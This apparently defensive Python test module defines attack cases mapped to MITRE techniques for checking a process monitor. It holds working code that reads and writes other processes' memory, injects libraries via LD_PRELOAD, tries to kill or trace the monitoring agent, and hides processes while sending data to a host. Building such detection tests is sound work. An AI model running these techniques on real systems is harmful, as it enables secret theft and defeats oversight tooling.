"""Other processes' memory and descriptors, code loaded into programs, and meddling with the agent."""

from __future__ import annotations

from attacks.cases.acts.base import HIGH, Act
from live.programs import Language

_C = """
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>
#define NUMBER(name) strtoul(getenv(name), 0, 0)
"""
_HELD = "secret-of-the-victim"


def _c(name: str, rule: str, technique: str, body: str, expects: str = _HELD, severity: int = 3) -> Act:
    text = f"{_C}\nint main(void) {{\n{body}\n}}"
    return Act(name, rule, technique, Language.C, text, expects, severity=severity)


OTHERS = (
    _c(
        "memory-read",
        "process_memory_read",
        "T1003.007",
        """
    char seen[64] = {0};
    struct iovec here = {seen, 40}, there = {(void *)NUMBER("ADDRESS"), 40};
    process_vm_readv(NUMBER("VICTIM"), &here, 1, &there, 1, 0);
    puts(seen);
""",
    ),
    Act(
        "memory-read-python",
        "process_memory_read",
        "T1003.007",
        Language.PYTHON,
        """
import ctypes, os
room = ctypes.create_string_buffer(64)

class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

here, there = Part(ctypes.addressof(room), 40), Part(int(os.environ["ADDRESS"], 16), 40)
ctypes.CDLL(None).process_vm_readv(int(os.environ["VICTIM"]), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
print(room.value.decode())
""",
        _HELD,
        in_cell=True,
    ),
    _c(
        "memory-written",
        "process_memory_written",
        "T1055",
        """
    char *text = "written", seen[64] = {0};
    struct iovec here = {text, 8}, there = {(void *)(NUMBER("ADDRESS") + 64), 8}, back = {seen, 8};
    process_vm_writev(NUMBER("VICTIM"), &here, 1, &there, 1, 0);
    process_vm_readv(NUMBER("VICTIM"), &back, 1, &there, 1, 0);
    puts(seen);
""",
        "written",
        HIGH,
    ),
    _c(
        "memory-traced",
        "process_traced",
        "T1055.008",
        """
    int pid = NUMBER("VICTIM");
    char seen[41] = {0};
    if (ptrace(PTRACE_ATTACH, pid, 0, 0)) return 1;
    waitpid(pid, 0, __WALL);
    for (int at = 0; at < 40; at += 8) {
        long word = ptrace(PTRACE_PEEKDATA, pid, NUMBER("ADDRESS") + at, 0);
        memcpy(seen + at, &word, 8);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
    puts(seen);
""",
    ),
    Act(
        "memory-traced-by-strace",
        "process_traced",
        "T1055.008",
        Language.BASH,
        "timeout 2 strace -q -o trace -p $VICTIM; grep -c nanosleep trace > /dev/null && echo saw its calls",
        "saw its calls",
        programs=("strace",),
        alone=True,
    ),
    _c(
        "memory-descriptor-taken",
        "process_memory_read",
        "T1003",
        """
    char seen[64] = {0};
    int taken = syscall(438, syscall(434, (int)NUMBER("VICTIM"), 0), 60, 0);
    pread(taken, seen, 60, 0);
    puts(seen);
""",
    ),
    Act(
        "memory-file",
        "process_memory_in_kernel",
        "T1003.007",
        Language.PYTHON,
        """
import os
with open(f"/proc/{os.environ['VICTIM']}/mem", "rb", 0) as memory:
    memory.seek(int(os.environ["ADDRESS"], 16))
    print(memory.read(30).decode(errors="replace"))
""",
        _HELD,
        in_cell=True,
        unseen="opening a file below /proc raises no event that a process without rights could hear",
    ),
)
_LIBRARY = """
cat > x.c <<'END'
#include <stdio.h>
#include <unistd.h>
unsigned la_version(unsigned offered) { return offered; }
__attribute__((constructor)) static void loaded(void) { write(2, "loaded here\\n", 12); }
END
gcc -shared -fPIC -o NAME x.c
"""


def _loaded(name: str, library: str, run: str, language: Language = Language.BASH) -> Act:
    text = _LIBRARY.replace("NAME", library) + run
    rule, needs = "preload_from_writable_place", ("gcc",)
    return Act(name, rule, "T1574.006", language, text, "loaded here", programs=needs, in_cell=True)


LOADED = (
    _loaded("load-preload", "x.so", 'LD_PRELOAD="$PWD/x.so" ls -d / 2>&1'),
    _loaded("load-preload-hidden", ".x.so", 'env LD_PRELOAD="$PWD/.x.so" $PYTHON -Sc "pass" 2>&1'),
    _loaded("load-audit", "audit.so", 'LD_AUDIT="$PWD/audit.so" ls -d / 2>&1'),
    _loaded(
        "load-preload-by-child",
        "y.so",
        "$PYTHON -Sc \"import os; os.execve('/bin/ls', ['ls', '/'], {'LD_PRELOAD': os.getcwd() + '/y.so'})\" 2>&1",
    ),
)
_RULE = "agent_tampering"
TAMPERING = (
    Act(
        "tamper-kill",
        _RULE,
        "T1562.001",
        Language.BASH,
        "kill -9 $AGENT || echo was refused; kill -0 $AGENT && echo still there",
        "was refused\nstill there",
        severity=HIGH,
    ),
    Act(
        "tamper-python-stop",
        _RULE,
        "T1562.001",
        Language.PYTHON,
        """
import os, signal
try:
    os.kill(int(os.environ["AGENT"]), signal.SIGSTOP)
except PermissionError:
    print("was refused")
""",
        "was refused",
        severity=HIGH,
    ),
    Act(
        "tamper-perl-kill",
        _RULE,
        "T1562.001",
        Language.PERL,
        'kill("TERM", $ENV{AGENT}) or print "was refused: $!";',
        "was refused",
        severity=HIGH,
    ),
    _c(
        "tamper-handle-kill",
        _RULE,
        "T1562.001",
        '    if (syscall(424, syscall(434, (int)NUMBER("AGENT"), 0), SIGKILL, 0, 0)) puts(strerror(errno));',
        "not permitted",
        HIGH,
    ),
    _c(
        "tamper-limit",
        _RULE,
        "T1562.001",
        """
    struct rlimit few = {3, 3};
    if (prlimit(NUMBER("AGENT"), RLIMIT_NOFILE, &few, 0)) puts(strerror(errno));
""",
        "not permitted",
        HIGH,
    ),
    _c(
        "tamper-trace",
        _RULE,
        "T1562.001",
        '    if (ptrace(PTRACE_SEIZE, (int)NUMBER("AGENT"), 0, 0)) puts(strerror(errno));',
        "not permitted",
        HIGH,
    ),
)
HIDING = (
    _c(
        "hide-with-connection",
        "hides_with_connection",
        "T1564",
        """
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(NUMBER("PORT"))};
    int net = socket(AF_INET, SOCK_STREAM, 0);
    inet_aton(getenv("HOST"), &peer.sin_addr);
    if (connect(net, (void *)&peer, sizeof peer)) return 1;
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    dprintf(net, "from-the-hidden");
    puts(prctl(PR_GET_DUMPABLE, 0, 0, 0, 0) ? "seen" : "hidden now");
    sleep(1);
""",
        "hidden now",
    ),
    Act(
        "hide-unreadable-shell",
        "unreadable_shell",
        "T1564",
        Language.BASH,
        "cp /bin/dash sh && chmod 111 sh && ./sh -c 'cat /proc/$$/environ 2>/dev/null || echo unreadable; sleep 0.5'",
        "unreadable",
        in_cell=True,
    ),
    Act(
        "hide-unreadable-client",
        "unreadable_process_connects",
        "T1564",
        Language.BASH,
        "cp $(command -v nc.openbsd) client && chmod 111 client && echo from-the-unreadable | ./client -N $HOST $PORT "
        "&& echo sent",
        "sent",
        "from-the-unreadable",
        programs=("nc.openbsd",),
    ),
)
CASES: tuple[Act, ...] = (*OTHERS, *LOADED, *TAMPERING, *HIDING)
